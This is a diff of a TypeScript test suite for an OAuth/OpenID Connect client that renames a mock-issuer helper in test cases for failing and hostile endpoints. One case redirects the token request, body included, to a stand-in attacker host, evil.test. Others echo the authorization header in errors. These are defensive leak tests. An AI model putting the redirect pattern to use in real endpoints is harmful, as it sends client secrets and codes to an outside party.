@@ -132,19 +132,19 @@ const CASES: Readonly<Record<string, Case>> = {
   },
   "a sign-in with an assertion": { provider: { client: { token_endpoint_auth_method: "client_secret_jwt" } } },
   "a plain OAuth sign-in": { oauth: {} },
-  "a token endpoint that fails": { issuer: (issuer) => issuer.lie("token", html(500)), fails: true },
-  "a token endpoint that is no JSON": { issuer: (issuer) => issuer.lie("token", html(200)), fails: true },
+  "a token endpoint that fails": { issuer: (issuer) => issuer.override("token", html(500)), fails: true },
+  "a token endpoint that is no JSON": { issuer: (issuer) => issuer.override("token", html(200)), fails: true },
   "a token endpoint that repeats the request as its error": {
-    issuer: (issuer) => issuer.lie("token", echo(400)),
+    issuer: (issuer) => issuer.override("token", echo(400)),
     fails: true,
   },
   "a token endpoint that repeats the request with status 200": {
-    issuer: (issuer) => issuer.lie("token", echo(200)),
+    issuer: (issuer) => issuer.override("token", echo(200)),
     fails: true,
   },
   "a token endpoint that does not know the client": {
     issuer: (issuer) =>
-      issuer.lie("token", (request) => {
+      issuer.override("token", (request) => {
         const challenge = { "www-authenticate": `Basic realm="${request.headers.get("authorization")}"` };
         return Response.json({ error: "invalid_client" }, { status: 401, headers: challenge });
       }),
@@ -152,7 +152,7 @@ const CASES: Readonly<Record<string, Case>> = {
   },
   "a token endpoint that sends elsewhere": {
     issuer: (issuer) =>
-      issuer.lie("token", async (request) => {
+      issuer.override("token", async (request) => {
         return new Response(null, {
           status: 307,
           headers: { location: `https://evil.test/?${await request.clone().text()}` },
@@ -162,7 +162,7 @@ const CASES: Readonly<Record<string, Case>> = {
   },
   "a network that quotes what it sent": {
     issuer: (issuer) =>
-      issuer.lie("token", async (request) => {
+      issuer.override("token", async (request) => {
         throw new TypeError(
           `error sending request ${request.url} ${await request.clone().text()} ${
             request.headers.get("authorization")
@@ -179,12 +179,12 @@ const CASES: Readonly<Record<string, Case>> = {
   "an id_token that is past": { issuer: (issuer) => issuer.claim({ exp: 1 }), fails: true },
   "an id_token of an unknown key": { issuer: (issuer) => issuer.header({ kid: "unknown" }), fails: true },
   "an id_token that is none": { issuer: (issuer) => issuer.rewrite((idToken) => `${idToken}.x`), fails: true },
-  "a key document that fails": { issuer: (issuer) => issuer.lie("jwks", html(404)), fails: true },
-  "metadata that fails": { issuer: (issuer) => issuer.lie("discovery", html(404)), fails: true },
+  "a key document that fails": { issuer: (issuer) => issuer.override("jwks", html(404)), fails: true },
+  "metadata that fails": { issuer: (issuer) => issuer.override("discovery", html(404)), fails: true },
   "a userinfo endpoint that refuses": {
     provider: { idToken: false },
     issuer: (issuer) =>
-      issuer.lie(
+      issuer.override(
         "userinfo",
         (request) => Response.json({ error: request.headers.get("authorization") }, { status: 401 }),
       ),
